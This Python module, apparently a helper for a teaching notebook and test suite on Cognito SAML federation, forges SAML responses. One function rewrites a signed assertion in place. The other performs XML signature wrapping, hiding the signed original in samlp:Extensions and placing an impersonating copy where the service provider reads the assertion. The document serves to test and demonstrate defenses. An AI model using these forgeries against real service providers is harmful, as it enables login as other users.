"""Forged SAML responses for notebook 12: what someone holding the browser can do to a
signed Response on its way to Cognito.

With the HTTP-POST binding the IdP's Response travels through the user's browser, so every
employee who signs in at the IdP holds a validly signed Response, about *themselves*.
:func:`tampered` edits the signed assertion in place: the signature no longer verifies.
:func:`wrapped` is XML signature wrapping (Somorovsky et al., "On Breaking SAML: Be
Whoever You Want to Be", 2012), the variant of
``tests/federation/test_saml_attacks.py::test_xml_signature_wrapping_signed_assertion_moved_into_extensions``:
the signed assertion, unchanged, is hidden in ``samlp:Extensions``, and a copy naming
someone else stands where a service provider reads the assertion, carrying the signature,
which still verifies over the hidden original. A service provider that checks "is there a
valid signature?" and then reads "the" assertion is fooled; Cognito reads only what the
signature covers.

Both take and return the base64 ``SAMLResponse`` form field, ready for
``federated_sign_in(..., saml_response=...)``.
"""

from __future__ import annotations

import base64
import copy

from lxml import etree

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"


def _q(namespace: str, name: str) -> str:
    return f"{{{namespace}}}{name}"


def _parse(saml_response: str) -> etree._Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True)
    return etree.fromstring(base64.b64decode(saml_response), parser)


def _encode(root: etree._Element) -> str:
    return base64.b64encode(etree.tostring(root)).decode("ascii")


def _impersonate(assertion: etree._Element, name_id: str, attributes: dict[str, str]) -> None:
    """Make ``assertion`` say it is about ``name_id``, with these attribute values."""
    subject = assertion.find(f"{_q(SAML, 'Subject')}/{_q(SAML, 'NameID')}")
    if subject is not None:
        subject.text = name_id
    for attribute in assertion.iter(_q(SAML, "Attribute")):
        if attribute.get("Name") in attributes:
            for value in attribute.iter(_q(SAML, "AttributeValue")):
                value.text = attributes[attribute.get("Name")]


def tampered(saml_response: str, *, name_id: str, **attributes: str) -> str:
    """The signed assertion itself rewritten to name ``name_id`` (and ``attributes``)."""
    root = _parse(saml_response)
    assertion = root.find(_q(SAML, "Assertion"))
    if assertion is None:
        raise ValueError("no saml:Assertion in this SAMLResponse")
    _impersonate(assertion, name_id, attributes)
    return _encode(root)


def wrapped(saml_response: str, *, name_id: str, **attributes: str) -> str:
    """XML signature wrapping: the signed assertion hidden in ``samlp:Extensions``, an
    evil copy naming ``name_id`` where the assertion was, carrying the signature."""
    root = _parse(saml_response)
    original = root.find(_q(SAML, "Assertion"))
    if original is None or original.find(_q(DS, "Signature")) is None:
        raise ValueError("no signed saml:Assertion in this SAMLResponse")
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil-assertion")
    _impersonate(evil, name_id, attributes)
    original.addprevious(evil)
    original.remove(original.find(_q(DS, "Signature")))
    extensions = etree.Element(_q(SAMLP, "Extensions"))
    issuer = root.find(_q(SAML, "Issuer"))
    if issuer is not None:
        issuer.addnext(extensions)       # samlp:Extensions follows the Issuer (SAML core)
    else:
        root.insert(0, extensions)
    extensions.append(original)          # moved: the Response's own assertion is the evil one
    return _encode(root)


__all__ = ["tampered", "wrapped"]
